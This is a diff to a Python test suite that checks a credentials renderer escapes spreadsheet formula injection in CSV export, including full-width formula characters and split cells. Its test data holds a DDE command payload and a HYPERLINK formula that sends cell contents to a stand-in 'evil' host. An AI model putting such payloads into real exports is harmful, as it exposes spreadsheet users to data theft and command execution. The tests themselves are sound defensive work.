@@ -5,6 +5,7 @@ import io
 import json
 import re
 import subprocess
+from dataclasses import replace
 from typing import ClassVar
 
 import pytest
@@ -13,13 +14,13 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from provisioner.errors import StateConflict
-from provisioner.model.account import Credentials, Secret
+from provisioner.model.account import Attributes, Callbacks, Credentials, Secret
 from provisioner.model.verdict import Answer, SealedContent
 from provisioner.render import credentials as faces
 
 
-def content(name: str = "paris", key: str = "k1") -> SealedContent:
-    return SealedContent("lineage", "default", name, "op", Secret("p1"), Credentials("l@x", Secret(key)))
+def content(name: str = "paris", key: str = "k1", other: str = "p1") -> SealedContent:
+    return SealedContent("lineage", "default", name, "op", Secret(other), Credentials("l@x", Secret(key)))
 
 
 UNKNOWN = SealedContent(
@@ -49,12 +50,43 @@ for kind, (pattern, starts) in CORE.items():
     Yaml12.add_implicit_resolver(f"tag:yaml.org,2002:{kind}", re.compile(rf"(?:{pattern})\Z"), [*starts])
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"
+"""What a spreadsheet takes for the start of a formula; the second half as a keyboard of East Asia writes it."""
+
+
+@pytest.mark.parametrize("start", [*STARTS, "\t", "\r", "\n"])
 def test_no_cell_is_a_formula(start: str) -> None:
     evil = content(key=f"{start}cmd|' /C calc'!A0")
     (_, row) = csv.reader(io.StringIO(faces.as_csv([evil]), newline=""))
     assert f"'{start}cmd|' /C calc'!A0" == row[2]
     assert ["paris"] == faces.altered_by_csv([evil, content("rome")])
+
+
+def test_no_part_of_a_cell_is_a_formula_where_it_is_split() -> None:
+    link = '=HYPERLINK("http://evil/?"&A1)'
+    evil = content(key=f"x;{link}")
+    assert f"x;'{link}" == [*csv.reader(io.StringIO(faces.as_csv([evil])))][1][2]
+    assert ["paris"] == faces.altered_by_csv([evil, content("rome")])
+
+
+@given(st.lists(st.text(alphabet=f"{STARTS}x'\", ;\t\r\n\xa0"), min_size=4, max_size=4), st.sampled_from(",;\t"))
+@example(["x", 'x;=HYPERLINK("http://evil/?"&A1)', "p", "q"], ";")
+@example(["x", 'x,\t"=1', "p", "q"], "\t")
+@example(["x\n", "=1", "x;", "@1"], ";")
+@example(["x", ' "\uff1d1', "p", "q"], ",")
+def test_no_cell_of_any_reader_is_a_formula(keys: list[str], delimiter: str) -> None:
+    text = faces.as_csv([content("paris", keys[0], keys[1]), content("rome", keys[2], keys[3])])
+    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
+    assert [] == [cell for cell in cells if re.match(rf'[\s"]*[{re.escape(STARTS)}]', cell)]
+
+
+@given(st.text(alphabet=f"{STARTS}x'\", ;\t\r\n\xa0") | st.text())
+def test_what_could_be_no_formula_is_not_altered(value: str) -> None:
+    suspicious = [part for part in re.split(r"[;\t\r\n]", value) if re.match(rf'[\s"]*[{re.escape(STARTS)}]', part)]
+    if not suspicious and value[:1] not in {"\t", "\r", "\n"}:
+        assert value == faces.cell(value)
+    # And where there is something, nothing is lost of it.
+    assert value.replace("'", "") == faces.cell(value).replace("'", "")
 
 
 def test_a_plain_table_is_not_altered() -> None:
@@ -172,3 +204,10 @@ def test_a_masked_table_holds_no_secret() -> None:
 def test_one_account_in_text() -> None:
     assert ["api_login: l@x", "api_key: k1", "password: p1"] == [line.text for line in faces.as_text(content())]
     assert ["password: p1", "answer: HTTP 201: café \\x1b[0m \\xff"] == [line.text for line in faces.as_text(UNKNOWN)]
+
+
+def test_text_shows_what_a_placeholder_may_stand_for() -> None:
+    callbacks = Callbacks("https://h.example.com/?t=token", email_for_inbounds="a@example.com")
+    sent = Attributes("Ada", "${env:X}", "Ltd", callbacks)
+    lines = [line.text for line in faces.as_text(replace(content(), sent=sent))]
+    assert ["last_name: ${env:X}", "callbacks.callback_url_for_deliveries: https://h.example.com/?t=token"] == lines[3:]
